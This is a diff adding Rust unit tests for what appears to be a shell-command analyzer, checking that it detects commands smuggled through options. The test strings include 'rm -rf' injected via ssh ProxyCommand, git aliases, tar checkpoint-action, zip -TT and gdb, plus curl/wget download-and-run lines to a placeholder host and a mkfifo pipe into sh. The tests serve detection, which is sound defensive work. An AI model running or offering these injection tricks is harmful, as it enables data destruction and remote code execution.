@@ -667,3 +667,58 @@ fn short_flags_stop_at_a_value() {
     let make = find(&cs, "make");
     assert_eq!(make.flags, strings(&["-j", "-C"]));
 }
+
+/// (script, the `via` of the `rm` an option's shell code runs)
+const OPTION_CODE: &[(&str, &str)] = &[
+    ("script -qc 'rm -rf x' /dev/null", "script -c"),
+    ("script --command='rm -rf x' log", "script -c"),
+    ("git -c alias.x='!rm -rf x' x", "git -c alias"),
+    ("git -c core.sshCommand='rm -rf x' fetch", "git -c core"),
+    ("ssh -o ProxyCommand='rm -rf x' h", "ssh -o ProxyCommand"),
+    ("ssh -oProxyCommand='rm -rf x' h", "ssh -o ProxyCommand"),
+    ("rsync -e 'rm -rf x' a h:b", "rsync -e"),
+    ("rsync --rsh='rm -rf x' a h:b", "rsync -e"),
+    (
+        "tar -cf o.tar a --checkpoint-action=exec='rm -rf x'",
+        "tar --checkpoint-action",
+    ),
+    ("tar -xf a.tar --to-command='rm -rf x'", "tar --to-command"),
+    ("zip o.zip a -T -TT 'rm -rf x'", "zip -TT"),
+    ("gdb -batch -ex 'shell rm -rf x'", "gdb -ex shell"),
+    ("gdb -ex '!rm -rf x'", "gdb -ex shell"),
+];
+
+#[test]
+fn option_code_runs_as_shell() {
+    for (script, label) in OPTION_CODE {
+        let cs = cmds(script);
+        let rm = find(&cs, "rm");
+        assert_eq!(rm.via.last().map(String::as_str), Some(*label), "{script}");
+    }
+    // Options that are not code, and code before the subcommand only.
+    for script in [
+        "git -c user.name=x commit -m 'rm -rf x'",
+        "git commit -c alias.x='!rm -rf x'",
+        "ssh -o ProxyJump=bastion h",
+        "script -q log.txt",
+        "gdb -ex run -ex bt ./app",
+        "tar -czf o.tgz --checkpoint-action=dot d",
+    ] {
+        assert!(cmds(script).iter().all(|c| c.program != "rm"), "{script}");
+    }
+}
+
+#[test]
+fn downloads_and_fifos_are_unknown_files() {
+    for script in [
+        "curl -fsSLo x.sh https://e.example && ./x.sh",
+        "wget -qO ./x.sh https://e.example; ./x.sh",
+        "mkfifo /tmp/f; cat /tmp/f | sh",
+    ] {
+        let cs = cmds(script);
+        assert!(
+            cs.iter().any(|c| c.code == Some(Code::Dynamic)),
+            "{script}: {cs:#?}"
+        );
+    }
+}
